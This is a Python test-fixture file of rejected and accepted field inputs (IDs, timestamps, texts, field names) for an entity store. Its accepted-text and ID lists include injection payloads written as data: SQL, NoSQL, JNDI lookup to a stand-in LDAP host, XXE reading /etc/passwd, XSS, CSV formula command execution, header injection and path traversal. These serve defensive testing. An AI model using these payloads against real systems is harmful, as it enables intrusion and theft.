"""Values that a field must refuse, and values that it must store unchanged."""

import json

from entities.fields import MAX_ID_BYTES
from tests.faults.corpus.inputs import nested
from tests.support.factories import contract, submission

# Ids that logs, terminals or URLs do not show alike.
BAD_IDS = {
    "nothing": "",
    "a blank alone": " ",
    "a blank before": " c",
    "a blank after": "c\u00a0",
    "separator": "c#1",
    "NUL": "c\0",
    "new line": "c\n1",
    "terminal command": "\x1b[31mc",
    "delete character": "c\x7f",
    "zero width": "c\u200b1",
    "byte order mark": "\ufeffc",
    "joined emoji": "👩\u200d👧",
    "line separator": "c\u20281",
    "right-to-left override": "c\u202e1",
    "Hebrew": "\u05e9",
    "Arabic digit": "c\u0661",
    "combining": "e\u0301",
    "not in NFC": "\u212b",
    "private use": "c\ue000",
    "noncharacter": "c\uffff",
    "unassigned": "c\u0378",
    "513 bytes": "c" * (MAX_ID_BYTES + 1),
    "514 bytes in 257 characters": "é" * (MAX_ID_BYTES // 2 + 1),
}

GOOD_IDS = {
    "512 bytes": "é" * (MAX_ID_BYTES // 2),
    "emoji": "🚜",
    "Chinese": "合同一",
    "blank within": "c 1",
    "path": "../../etc/passwd",
    "SQL": "'; DROP TABLE entities; --",
    "percent": "%00%2e%2e%2f",
    "replacement character": "c\ufffd",
    "prototype": "__proto__",
}

BAD_TIMES = {
    "nothing": "",
    "a word": "now",
    "no offset": "2026-01-31T12:00:00",
    "date": "2026-01-31",
    "epoch number": 1769860800,
    "epoch text": "1769860800",
    "year 0000": "0000-01-01T00:00:00Z",
    "year 10000": "10000-01-01T00:00:00Z",
    "negative year": "-2026-01-31T12:00:00Z",
    "leap second at noon": "2016-12-31T12:00:60Z",
    "24:00": "2026-01-31T24:00:00Z",
    "month 13": "2026-13-01T00:00:00Z",
    "February 30": "2026-02-30T00:00:00Z",
    "offset of a day": "2026-01-31T12:00:00+24:00",
    "offset without colon": "2026-01-31T12:00:00+0100",
    "before year 1 in UTC": "0001-01-01T00:00:00+01:00",
    "after year 9999 in UTC": "9999-12-31T23:59:59-01:00",
    "week": "2026-W05-6T12:00:00Z",
    "year 1": "0001-01-01T00:00:00Z",
    "before 1970": "1969-12-31T23:59:59.999999Z",
    "year 9999": "9999-12-31T23:59:59.999999Z",
    "full-width digits": "\uff12\uff10\uff12\uff16-01-31T12:00:00Z",
    "new line after it": "2026-01-31T12:00:00Z\n",
    "list": ["2026-01-31T12:00:00Z"],
    "true": True,
}

GOOD_TIMES = {
    "lower case": "2026-01-31t12:00:00z",
    "blank for T": "2026-01-31 12:00:00Z",
    "nanoseconds": "2026-01-31T12:00:00.123456789Z",
    "unknown offset": "2026-01-31T12:00:00-00:00",
    "1970": "1970-01-01T00:00:00Z",
    "leap second": "2016-12-31T23:59:60Z",
    "null": None,
}

# The platform never runs, opens or expands a value, so these are stored unchanged.
GOOD_TEXTS = {
    "SQL": "'; DROP TABLE entities; --",
    "PartiQL": "x' OR '1'='1",
    "NoSQL": '{"$ne": null}',
    "condition": "attribute_exists(ID) OR :time = :time",
    "format string": "%s%n{0.__class__}${jndi:ldap://192.0.2.1/x}",
    "template": "{{7*7}}<%= 7 %>#{7}$(id)`id`",
    "XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "HTML": "<script>alert(1)</script>",
    "CSV formula": "=HYPERLINK(0)+cmd|' /C calc'!A0",
    "header": "x\r\nX-Api-Key: y\r\n\r\n{}",
    "control characters": "\0\x01\x1b[2J\x7f\x85",
    "noncharacters": "\ufffe\uffff\U0001ffff",
    "replacement character": "\ufffd",
    "right to left": "\u202e\u05e9\u05dc\u05d5\u05dd\u2066",
    "combining": "e" + "\u0301" * 200,
    "number": "1e999",
    "blanks": " \t\n\u00a0\u2028 ",
    "nothing": "",
}

BAD_VALUES = {
    "null": None,
    "number": 7,
    "fraction": 0.5,
    "true": True,
    "list": ["active"],
    "operator": {"$ne": None},
    "150 levels": nested(150),
}

UNKNOWN_FIELDS = (
    *("__class__", "__proto__", "constructor", "$where", "CONTRACT_ID", "contract_id ", "a.b"),
    *("ID", "ENTITY_NAME", "_event", "", "\0"),
)

VALID = submission(contract("valid"))
VALID_BYTES = json.dumps(VALID).encode()
